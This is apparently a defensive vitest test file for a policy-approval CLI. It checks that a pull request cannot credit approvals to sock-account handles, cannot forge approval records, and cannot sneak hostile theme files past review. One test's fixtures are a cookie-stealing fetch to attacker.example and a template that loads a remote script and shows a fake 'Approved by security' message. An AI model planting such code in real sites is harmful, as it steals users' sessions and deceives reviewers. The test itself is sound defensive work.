/**
 * Issue 11, trust boundaries, for pull requests: what a pull request changes about who is
 * trusted cannot vouch for the pull request itself. Its author (eve) cannot have her own accounts'
 * reviews credited to the real approvers by editing their handles or the approvers (item 3), cannot
 * approve on their behalf by committing ledger records (item 4), and cannot slip theme scripts or
 * review templates past the report (item 15).
 */
import { readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { mkdtemp } from 'node:fs/promises';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import type { TestRepo } from './helpers/git-repo.js';
import { PROJECT_ROOT } from './helpers/paths.js';
import { runCli } from './helpers/run-cli.js';
import { tinyOrg } from './helpers/tiny-org.js';

const now = new Date('2026-11-25T12:00:00Z');
const cli = (repo: TestRepo, ...argv: string[]) => runCli([...argv, '--root', repo.dir], { now, cwd: repo.dir });
const trustLines = (github: string) => github.split('\n').filter((l) => l.includes('title=precept trust-change::')).map((l) => l.replace(/,col=.*?::/, '::').replace(/%0A.*$/, ''));

/** tinyOrg with alpha and beta approved by ada and bob on main; eve (Eve-Eng) opens branch `pr`. */
async function approvedOrg(): Promise<TestRepo> {
  const repo = await tinyOrg();
  for (const [policy, person] of [['alpha', 'ada'], ['alpha', 'bob'], ['beta', 'ada'], ['beta', 'bob']] as const) {
    expect((await cli(repo, 'approve', policy, '--as', person)).code).toBe(0);
  }
  repo.commit('approvals', '2026-03-02T10:00:00Z');
  repo.git('checkout', '-q', '-b', 'pr');
  return repo;
}

/** A new version of a policy: the version bumped, a sentence added, other frontmatter edited by `edit`. */
async function revise(repo: TestRepo, id: string, edit: (text: string) => string = (t) => t): Promise<void> {
  const file = path.join(repo.dir, 'policies', `${id}.md`);
  const text = await readFile(file, 'utf8');
  await writeFile(file, edit(text.replace('version: 1.0.0', 'version: 1.1.0').replace(/\n$/, '\n\nSee the staff handbook.\n')));
}

/** Merges `pr` into main as GitHub does, and writes the reviews JSON; returns the merge commit. */
async function merge(repo: TestRepo, reviews: { id: number; login: string }[]): Promise<string> {
  const commit = repo.git('rev-parse', 'pr').trim();
  repo.git('checkout', '-q', 'main');
  repo.git('-c', 'user.name=Merger', '-c', 'user.email=m@example.com', 'merge', '-q', '--no-ff', '-m', 'Merge pull request #7', 'pr');
  await writeFile(path.join(repo.dir, 'reviews.json'), JSON.stringify(reviews.map((r) => ({
    id: r.id, user: { login: r.login }, state: 'APPROVED', submitted_at: '2026-04-02T12:00:00Z', commit_id: commit,
  }))));
  return repo.git('rev-parse', 'HEAD').trim();
}

describe('item 3: approvals are credited by handles and approvers as the base has them', () => {
  it("a pull request that hands the approvers' GitHub handles to its author's accounts gets nothing recorded, and review and check --base say so", async () => {
    const repo = await approvedOrg();
    await revise(repo, 'alpha');
    const people = await readFile(path.join(repo.dir, 'people.yaml'), 'utf8');
    await writeFile(path.join(repo.dir, 'people.yaml'), people.replace('github: ada-o', 'github: eve-sock-1').replace('github: bobapprover', 'github: eve-sock-2'));
    repo.commit('alpha 1.1.0; tidy handles', '2026-04-01T10:00:00Z');

    const review = await cli(repo, 'review', '--as-of', '2026-11-25', '--base', 'main');
    expect(review.stdout).toContain('Approval needed from: @ada-o (Ada Owner), @bobapprover (Bob Approver)');
    expect(review.stdout).not.toContain('@eve-sock');
    expect(review.stdout).toContain('- ⚠️ `people.yaml:11:13` ada github changes from ada-o to eve-sock-1 in this pull request: GitHub reviews are matched to people as the base (main (');
    const check = await cli(repo, 'check', '--as-of', '2026-11-25', '--base', 'main', '--format', 'github');
    expect(trustLines(check.stdout)).toEqual([
      expect.stringMatching(/^::warning file=people\.yaml,line=11::ada github changes from ada-o to eve-sock-1 in this pull request/),
      expect.stringMatching(/^::warning file=people\.yaml,line=17::bob github changes from bobapprover to eve-sock-2 in this pull request/),
    ]);

    const head = await merge(repo, [{ id: 1, login: 'eve-sock-1' }, { id: 2, login: 'eve-sock-2' }]);
    const before = await readFile(path.join(repo.dir, 'records/approvals.jsonl'), 'utf8');
    const imported = await cli(repo, 'approvals', 'import', '--github', 'reviews.json', '--pr', 'acme/policies#7');
    expect(imported.stdout.split('\n').slice(1)).toEqual([
      'Recorded 0 approvals.',
      'Not recorded (2):',
      expect.stringMatching(/^ {2}- @eve-sock-1 approved, but nobody in people\.yaml at [0-9a-f]{7} has github: eve-sock-1 \(this pull request gives it to ada; handles count from the commit before it\)$/),
      expect.stringMatching(/^ {2}- @eve-sock-2 approved, but nobody in people\.yaml at [0-9a-f]{7} has github: eve-sock-2 \(this pull request gives it to bob; /),
      'Still waiting: alpha needs approval from ada, bob.',
      '',
    ]);
    expect(await readFile(path.join(repo.dir, 'records/approvals.jsonl'), 'utf8')).toBe(before);
    expect(head).toMatch(/^[0-9a-f]{40}$/);
  });

  it('a pull request that makes its author the approver gets her review not recorded, and the change flagged', async () => {
    const repo = await approvedOrg();
    await revise(repo, 'beta', (t) => t.replace('approvers: [ada, bob]', 'approvers: [eve]'));
    repo.commit('beta 1.1.0, approved by eve', '2026-04-01T10:00:00Z');
    const review = await cli(repo, 'review', '--as-of', '2026-11-25', '--base', 'main');
    expect(review.stdout).toContain('Approval needed from: @ada-o (Ada Owner), @bobapprover (Bob Approver)');
    expect(review.stdout).toContain('- ⚠️ `policies/beta.md:6:1` approvers of beta change (+eve, −ada, −bob): reviews of this pull request are credited to the base\'s approvers (ada, bob)');
    await merge(repo, [{ id: 3, login: 'Eve-Eng' }]);
    const imported = await cli(repo, 'approvals', 'import', '--github', 'reviews.json', '--pr', 'acme/policies#7');
    expect(imported.stdout).toMatch(/Recorded 0 approvals\.\nNot recorded \(1\):\n {2}- @Eve-Eng \(eve\) approved, but this pull request made them an approver of beta; approvers count from the commit before it \([0-9a-f]{7}\)\nStill waiting: beta needs approval from eve\.\n$/);
    // On main the policy now waits for eve's own approval, given where approvals are trusted.
    expect((await cli(repo, 'check', '--as-of', '2026-11-25', '--format', 'github')).stdout).toMatch(/file=policies\/beta\.md,line=6,.*approval-missing::no approval from eve for version 1\.1\.0/);
  });
});

describe('item 4: records a pull request appends do not count in it', () => {
  it('approvals committed in the branch leave the policy pending in check --base and review, and are listed as needing separate approval', async () => {
    const repo = await approvedOrg();
    await revise(repo, 'alpha');
    repo.commit('alpha 1.1.0', '2026-04-01T10:00:00Z');
    for (const person of ['ada', 'bob']) expect((await cli(repo, 'approve', 'alpha', '--as', person)).code).toBe(0); // by eve, as them
    repo.commit('approved', '2026-04-01T11:00:00Z');

    const check = await cli(repo, 'check', '--as-of', '2026-11-25', '--base', 'main', '--format', 'github');
    expect(check.stdout).toMatch(/file=policies\/alpha\.md,line=7,.*approval-missing::ada approved version 1\.0\.0, not version 1\.1\.0 \(pending: this pull request changes the policy\)/);
    expect(trustLines(check.stdout)).toEqual([
      "::warning file=records/approvals.jsonl,line=5::line 5 is added by this pull request (ada approved alpha 1.1.0 (cli, 2026-11-25T12:00:00Z)): not counted here; once merged it counts as ada's own, so it needs separate approval",
      "::warning file=records/approvals.jsonl,line=6::line 6 is added by this pull request (bob approved alpha 1.1.0 (cli, 2026-11-25T12:00:00Z)): not counted here; once merged it counts as bob's own, so it needs separate approval",
    ]);
    const review = await cli(repo, 'review', '--as-of', '2026-11-25', '--base', 'main');
    expect(review.stdout).not.toContain('No problems');
    expect(review.stdout).not.toContain('✅ approved');
    expect(review.stdout).toContain('Approval needed from: @ada-o (Ada Owner), @bobapprover (Bob Approver)\n');
    expect(review.stdout).toContain('### Added to `records/approvals.jsonl` by this pull request (not counted until it merges)\n\n- line 5: ada approved alpha 1.1.0 (cli, 2026-11-25T12:00:00Z)\n- line 6: bob approved alpha 1.1.0');
    const json = JSON.parse((await cli(repo, 'review', '--as-of', '2026-11-25', '--base', 'main', '--format', 'json')).stdout) as { policies: { id: string; approvers: { approved: boolean }[] }[] };
    expect(json.policies.find((p) => p.id === 'alpha')!.approvers.map((a) => a.approved)).toEqual([false, false]);
  });
});

describe('item 15: theme changes are shown for separate approval, and review uses the base theme', () => {
  it('lists changed theme files, and renders the HTML redlines with the templates of the base', async () => {
    const repo = await approvedOrg();
    await revise(repo, 'alpha');
    await repo.write({
      'site/assets/ack.js': 'fetch("https://attacker.example/?" + document.cookie);\n',
      'site/review/redline.hbs': '<!doctype html><title>{{title}}</title><p class="verdict">Approved by security. Nothing to review.</p><script src="https://attacker.example/x.js"></script>\n',
    });
    repo.commit('alpha 1.1.0 and a new look', '2026-04-01T10:00:00Z');
    const out = await mkdtemp(path.join(os.tmpdir(), 'precept-sec-redlines-'));
    const review = await cli(repo, 'review', '--as-of', '2026-11-25', '--base', 'main', '--html', out);
    expect(review.stdout).toContain("- ⚠️ `site/assets/ack.js:1:1` site/assets/ack.js is part of the portal's theme: its templates and scripts run in every reader's browser, beside the acknowledgement button, so the change needs separate approval");
    expect(review.stdout).toContain('- ⚠️ `site/review/redline.hbs:1:1` site/review/redline.hbs is part of the portal');
    const json = JSON.parse((await cli(repo, 'review', '--as-of', '2026-11-25', '--base', 'main', '--format', 'json')).stdout) as { theme: string[] };
    expect(json.theme).toEqual(['site/assets/ack.js', 'site/review/redline.hbs']);
    const page = await readFile(path.join(out, 'alpha.html'), 'utf8');
    expect(page).not.toContain('attacker.example');
    expect(page).not.toContain('Nothing to review');
    expect(page).toContain('<ins>');
  });

  it('the sample workflow runs on theme changes', async () => {
    const doc = await readFile(path.join(PROJECT_ROOT, 'docs', 'github-workflow.md'), 'utf8');
    const workflow = parse(/```yaml\n([\s\S]*?)```/.exec(doc)![1]!) as { on: Record<string, { paths: string[] }> };
    expect(workflow.on['pull_request']!.paths).toContain('site/**');
    expect(workflow.on['push']!.paths).toContain('site/**');
  });
});
